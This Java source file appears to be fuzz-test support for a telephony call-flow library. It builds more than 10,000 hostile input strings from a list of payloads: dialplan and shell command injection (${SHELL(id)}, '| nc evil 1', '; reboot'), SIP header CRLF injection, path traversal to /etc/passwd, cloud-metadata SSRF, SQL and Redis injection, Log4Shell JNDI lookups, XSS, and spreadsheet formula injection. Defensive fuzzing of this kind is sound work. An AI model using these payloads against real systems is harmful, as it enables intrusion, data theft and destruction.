package io.github.ariadne4j.callflow;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/**
 * Texts that an attacker may send in place of a number, a name, a header, a prompt, a contact or an account code. The same texts
 * in the same order each time.
 */
public final class HostileTexts {
    private static final List<String> BEFORE =
            List.of("", "1900", "+33123456789", "alice", " ", "sip:", "tel:900", "000", "PJSIP/");
    private static final List<String> BEHIND = List.of("", "1", "@premium", "/n", ",", ";x=1", "\"", ")", "}");

    /**
     * Texts with a meaning in some syntax: dial strings, dialplan, SIP, URLs, SQL, RESP, LDAP look-ups of logs, HTML, JSON,
     * shells, paths.
     */
    private static final List<String> SYNTAX = List.of(
            "@premium/premium,",
            "@premium/sip:1900@127.0.0.1:5099",
            "@callee/premium,x",
            "&PJSIP/agent",
            "&PJSIP/agent/sip:x@192.0.2.7",
            "|SIP/agent",
            ",30,tT",
            ",ringback=silence",
            "^1^2",
            "/n&Local/1900@premium",
            "{number}",
            "{number:1}",
            "${SHELL(id)}",
            "${EXTEN}",
            "$[1+1]",
            "${ENV(PATH)}",
            "FILTER(0-9,${X})",
            "SHELL(id)",
            "CHANNEL(accountcode)",
            "PJSIP_HEADER(add,X)",
            "A4J_CALL",
            "\r\nX-Bar: 1",
            "\nTo: <sip:premium@evil>",
            "\r\n\r\nINVITE sip:x SIP/2.0",
            "%0d%0aX-Bar:1",
            "%00",
            "%40premium",
            "%2e%2e%2f",
            "%25%30%30",
            "<sip:x@evil>;tag=1",
            ";transport=tcp",
            ";phone-context=evil",
            ";npdi;rn=+881",
            "?X-Foo=bar&Replaces=1",
            "?app=other&appArgs=x",
            "&variables=1#",
            "/../../asterisk/modules",
            "..\\..\\etc",
            "/etc/passwd",
            "sound:../../../etc/passwd",
            "recording:x&media=tone:dial",
            "sound:http://169.254.169.254/latest",
            "file:///etc/passwd",
            "' or '1'='1",
            "'; drop table cdr; --",
            "\\'; truncate cdr;",
            "$$; select pg_sleep(9); $$",
            "?",
            ":name",
            "{0}",
            "\\u0000",
            "\" or \"\"=\"",
            "/* x */ union select password from users",
            "_%",
            "*3\r\n$3\r\nSET\r\n$1\r\na\r\n$1\r\nb\r\n",
            "+OK\r\nFLUSHALL\r\n",
            "{other}:session:",
            "a}:{b",
            "${jndi:ldap://evil/a}",
            "${${lower:j}ndi:rmi://evil/a}",
            "%x{cause}%n",
            "{} {}",
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "javascript:alert(1)",
            "</title>&lt;b&gt;",
            "{\"caller\":\"x\"}",
            "\",\"admin\":true,\"x\":\"",
            "`id`",
            "$(id)",
            "; reboot",
            "| nc evil 1",
            "&& id",
            "../",
            "~root",
            "=cmd|'/c calc'!A1",
            "@SUM(1+1)");

    /** Characters that look like letters, change the direction of a line, or end it. */
    private static final List<String> CHARACTERS = characters();

    private HostileTexts() {}

    /** More than 10,000 different texts. */
    public static List<String> all() {
        Set<String> texts = new LinkedHashSet<>();
        List<String> parts = new ArrayList<>(SYNTAX);
        parts.addAll(CHARACTERS);
        for (String part : parts) {
            for (String before : BEFORE) {
                BEHIND.forEach(behind -> texts.add(before + part + behind));
            }
        }
        for (int length : new int[] {65, 81, 129, 257, 1_025, 4_097}) {
            parts.stream()
                    .filter(part -> !part.isEmpty())
                    .limit(20)
                    .forEach(part -> texts.add(part.repeat(length / part.length() + 1)));
            texts.add("9".repeat(length));
        }
        return List.copyOf(texts);
    }

    private static List<String> characters() {
        List<String> characters = new ArrayList<>();
        for (char control = 0; control < ' '; control++) {
            characters.add(String.valueOf(control));
        }
        for (int code : new int[] {
            0x7f, 0x80, 0x85, 0x9b, 0xa0, 0xad, 0x660, 0x669, 0x6f0, 0x966, 0x430, 0x435, 0x3bf, 0x200b, 0x200d, 0x200e,
            0x200f, 0x2028, 0x2029, 0x202a, 0x202e, 0x2066, 0x2069, 0x2215, 0x2044, 0xfe6b, 0xfeff, 0xff0b, 0xff10,
            0xff19, 0xff20, 0xff06, 0xff5c, 0xff1b, 0xff0c, 0xff08, 0xff04, 0xff0f, 0x1d7d8, 0x1d7ff, 0xe0001, 0x10ffff
        }) {
            characters.add(Character.toString(code));
        }
        characters.add("\u001b[2J\u001b]0;x\u0007");
        characters.add("\u001b[31m");
        return characters;
    }
}
